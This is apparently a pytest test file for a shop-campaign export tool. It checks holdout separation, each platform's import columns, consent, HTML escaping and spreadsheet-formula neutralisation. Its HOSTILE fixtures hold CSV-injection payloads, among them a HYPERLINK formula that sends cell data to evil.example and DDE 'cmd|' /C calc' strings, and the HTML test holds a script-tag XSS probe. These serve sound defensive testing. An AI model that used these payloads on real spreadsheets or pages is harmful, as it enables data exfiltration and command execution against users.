"""Audience files a shop can upload: the treatment alone in each platform's import layout, the holdout apart,
no cell a spreadsheet would run as a formula, HTML messages escaped, unevaluable rules warned about."""

from __future__ import annotations

import csv
from collections.abc import Mapping
from pathlib import Path

import duckdb
import polars as pl
import pytest

from segmint.campaigns.build import build_campaigns, holdout_draw
from segmint.campaigns.exports import (
    FORMULA_STARTS,
    KLAVIYO_COLUMNS,
    MAILCHIMP_COLUMNS,
    SHOPIFY_COLUMNS,
    neutralise,
    restore,
)
from segmint.campaigns.playbook import Playbook
from segmint.config import Settings

from .conftest import AS_OF, N_REGULAR, fill

Shop = tuple[duckdb.DuckDBPyConnection, Settings]
REGULARS = {"name": "regulars", "segments": ["Regulars"], "offer": "10% off", "message": "Hi {{ segment }}"}


def playbook(*campaigns: Mapping[str, object], **defaults: object) -> Playbook:
    return Playbook.model_validate({"defaults": defaults, "campaigns": [dict(c) for c in campaigns]})


def rows(path: Path) -> list[list[str]]:
    """The file as a spreadsheet reads it: header first, every cell as written."""
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def holdout_ids(campaign_id: str, ids: list[str], share: float) -> set[str]:
    return {c for c in ids if holdout_draw(campaign_id, c) < share}


@pytest.mark.parametrize("fmt", ["csv", "klaviyo", "mailchimp", "shopify"])
def test_the_send_file_holds_the_treatment_only_and_the_holdout_is_apart(shop: Shop, fmt: str) -> None:
    con, settings = shop
    [build] = build_campaigns(
        con, settings, AS_OF, playbook=playbook(REGULARS, holdout_share=0.2), format=fmt
    )
    regulars = [f"c{i:03d}" for i in range(100, 100 + N_REGULAR)]
    held = holdout_ids("regulars-20240331", regulars, 0.2)
    assert 40 < len(held) < 120  # about 20% of 400

    folder = build.export_path.parent
    expected_name = "regulars-20240331.csv" if fmt == "csv" else f"regulars-20240331.{fmt}.csv"
    assert build.export_path.name == expected_name
    assert build.holdout_path == folder / "regulars-20240331.HOLDOUT-do-not-upload.csv"
    email_column = {"csv": "email", "klaviyo": "Email", "mailchimp": "Email Address", "shopify": "Email"}[fmt]
    send = pl.read_csv(build.export_path, infer_schema=False)
    sent = {e.removesuffix("@example.com") for e in send[email_column]}
    assert sent == set(regulars) - held, "exactly the treatment, nobody held out"
    assert build.n_treatment == send.height == N_REGULAR - len(held)

    holdout = pl.read_csv(build.holdout_path, infer_schema=False)
    assert set(holdout["customer_id"]) == held and set(holdout["group"]) == {"holdout"}
    assert build.n_holdout == holdout.height
    # The ledger still knows both groups (measurement compares them).
    groups = dict(con.execute('select "group", count(*) from campaign_audiences group by all').fetchall())
    assert groups == {"treatment": send.height, "holdout": holdout.height}


def test_each_platform_gets_its_import_columns(shop: Shop) -> None:
    con, settings = shop
    book = playbook(REGULARS, holdout_share=0.2)
    paths = {
        fmt: build_campaigns(con, settings, AS_OF, playbook=book, format=fmt)[0].export_path
        for fmt in ("csv", "klaviyo", "mailchimp", "shopify")
    }
    header = {fmt: rows(path)[0] for fmt, path in paths.items()}
    assert header["csv"] == ["customer_id", "email", "segment", "offer", "recommended_products", "group",
                             "channel", "message"]  # fmt: skip
    assert tuple(header["klaviyo"]) == KLAVIYO_COLUMNS and header["klaviyo"][0] == "Email"
    assert header["mailchimp"] == ["Email Address", "First Name", "Last Name", "Tags"]
    assert tuple(header["mailchimp"]) == MAILCHIMP_COLUMNS
    # Shopify's customer import template, column for column.
    assert ",".join(header["shopify"]) == (
        "First Name,Last Name,Email,Accepts Email Marketing,Default Address Company,Default Address Address1,"
        "Default Address Address2,Default Address City,Default Address Province Code,"
        "Default Address Country Code,Default Address Zip,Default Address Phone,Phone,Accepts SMS Marketing,"
        "Tags,Note,Tax Exempt"
    )
    assert tuple(header["shopify"]) == SHOPIFY_COLUMNS

    klaviyo = pl.read_csv(paths["klaviyo"], infer_schema=False).row(0, named=True)
    assert klaviyo["Email Marketing Consent"] == "Subscribed"  # every one of them said yes
    assert (klaviyo["Segment"], klaviyo["Offer"], klaviyo["Message"]) == (
        "Regulars",
        "10% off",
        "Hi Regulars",
    )
    mailchimp = pl.read_csv(paths["mailchimp"], infer_schema=False).row(0, named=True)
    assert mailchimp["Tags"] == "Regulars,regulars"  # the segment and the campaign
    shopify = pl.read_csv(paths["shopify"], infer_schema=False).row(0, named=True)
    assert shopify["Accepts Email Marketing"] == "yes" and shopify["Default Address Country Code"] == "DE"
    assert shopify["Tags"] == "Regulars,regulars"


def test_without_a_consent_column_klaviyo_consent_is_left_blank(tmp_path: Path) -> None:
    from segmint.warehouse import connect

    settings = Settings(config_path=tmp_path / "segmint.toml")
    settings.campaigns.export_dir = tmp_path / "exports"
    with connect(tmp_path / "w.duckdb") as con:
        fill(con, consent_column=False)
        [build] = build_campaigns(con, settings, AS_OF, playbook=playbook(REGULARS), format="klaviyo")
    consent = set(pl.read_csv(build.export_path, infer_schema=False)["Email Marketing Consent"].fill_null(""))
    assert consent == {""}, "unknown consent is never uploaded as a subscription"


HOSTILE = {
    "c100": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "c101": "+cmd|' /C calc'!A0",
    "c102": "-2+3",
    "c103": "@SUM(1+1)*cmd|' /C calc'!A0",
    "c104": "\t=1+1",
    "c105": "\r=1+1",
}


def test_no_cell_starts_like_a_formula(shop: Shop) -> None:
    con, settings = shop
    # Hostile values from the shop's own exports: e-mail addresses, segment names, product names.
    for customer, value in HOSTILE.items():
        con.execute("update customers set email = ? where customer_id = ?", [value, customer])
    con.execute("update customer_predictions set segment_name = '=1+2' where customer_id = 'c106'")
    con.execute(
        "insert into order_lines by name select 'o1' as order_id, 1 as line_no, 'P9' as product_id, "
        "'=cmd|''/C calc''!A0' as product_name, 1 as quantity, 1 as unit_price, 1 as line_revenue"
    )
    everyone = {
        "name": "everyone",
        "rule": "frequency >= 1",
        "products": ["P9"],
        "offer": "-20% today",
        "message": "{{ product_names | join(', ') }}",
    }
    for fmt in ("csv", "klaviyo", "mailchimp", "shopify"):
        [build] = build_campaigns(
            con, settings, AS_OF, playbook=playbook(everyone, holdout_share=0.5), format=fmt
        )
        assert build.holdout_path is not None
        for path in (build.export_path, build.holdout_path):
            cells = [cell for row in rows(path) for cell in row]
            assert cells, path
            assert not [c for c in cells if c.startswith(FORMULA_STARTS)], f"{path.name} carries a formula"
        both = rows(build.export_path)[1:] + (rows(build.holdout_path)[1:] if fmt == "csv" else [])
        if fmt == "csv":
            emails = {row[1] for row in both}
            assert {"'" + v for v in HOSTILE.values()} <= emails
            assert {row[7] for row in both} == {"'=cmd|'/C calc'!A0"}  # the message
            assert {row[3] for row in both} == {"'-20% today"}  # the offer
    # The warehouse keeps the values as they are: only the files for spreadsheets are guarded.
    stored = con.execute("select email from campaign_audiences where customer_id = 'c100'").fetchone()
    assert stored == (HOSTILE["c100"],)


def test_neutralise_follows_the_owasp_rule_and_restore_undoes_it() -> None:
    for value in ("=1+1", "+1", "-1", "@a", "\tx", "\rx"):
        assert neutralise(value) == "'" + value and restore(neutralise(value)) == value
    for value in ("", None, "plain", "a=b", "'quoted", "1-2"):
        assert neutralise(value) == value and restore(value) == value


def test_html_messages_are_autoescaped_and_text_messages_are_not(shop: Shop) -> None:
    con, settings = shop
    con.execute(
        "insert into order_lines by name select 'o1' as order_id, 1 as line_no, 'P9' as product_id, "
        "'<script>alert(1)</script> & <b>Tea</b>' as product_name, 1 as quantity, 1 as unit_price, 1 as line_revenue"
    )
    common = {"rule": "frequency >= 1", "products": ["P9"]}
    html = {
        **common,
        "name": "html",
        "message_format": "html",
        "message": "<p>{{ product_names | first }}</p>",
    }
    text = {**common, "name": "text", "message": "{{ product_names | first }}"}
    [as_html] = build_campaigns(con, settings, AS_OF, playbook=playbook(html, holdout_share=0.1))
    [as_text] = build_campaigns(con, settings, AS_OF, playbook=playbook(text, holdout_share=0.1))
    message = pl.read_csv(as_html.export_path, infer_schema=False)["message"][0]
    assert message == "<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;Tea&lt;/b&gt;</p>"
    plain = pl.read_csv(as_text.export_path, infer_schema=False)["message"][0]
    assert plain == "<script>alert(1)</script> & <b>Tea</b>"


def test_a_rule_that_cannot_be_evaluated_warns_instead_of_an_empty_audience(shop: Shop) -> None:
    con, settings = shop
    # A shop without predictions yet: no churn scores, no CLV.
    con.execute("delete from customer_predictions")
    con.execute("delete from prediction_runs")
    book = playbook(
        {"name": "win-back", "rule": "churn_score >= 0.6 and clv_12m >= 50"},
        {"name": "vips", "segments": ["VIP"]},
        {"name": "at-risk", "rfm_segments": ["At Risk"]},
    )
    builds = build_campaigns(con, settings, AS_OF, playbook=book)
    assert [b.name for b in builds] == ["vips", "at-risk"], "the others are still built"
    [warning] = [w for w in builds.warnings if "not built" in w]
    assert warning.startswith(
        "campaign 'win-back' not built for 2024-03-31: its targeting uses churn_score, clv_12m"
    )
    assert "no prediction run yet" in warning
    folder = settings.campaigns.export_dir
    assert folder is not None
    assert not list(folder.glob("*/win-back-*")), "no empty audience file"
    assert con.execute("select count(*) from campaigns where name = 'win-back'").fetchone() == (0,)

    # Without a published segmentation, a campaign by segment name cannot be evaluated either.
    con.execute("delete from segment_assignments")
    con.execute("delete from segment_runs")
    builds = build_campaigns(con, settings, AS_OF, playbook=book)
    assert [b.name for b in builds] == ["at-risk"]
    assert any("campaign 'vips'" in w and "no published segmentation yet" in w for w in builds.warnings)


def test_an_unknown_format_is_one_sentence(shop: Shop) -> None:
    from segmint.errors import ConfigError

    con, settings = shop
    with pytest.raises(ConfigError, match=r"Unknown audience format 'excel'; use one of csv, klaviyo"):
        build_campaigns(con, settings, AS_OF, playbook=playbook(REGULARS), format="excel")
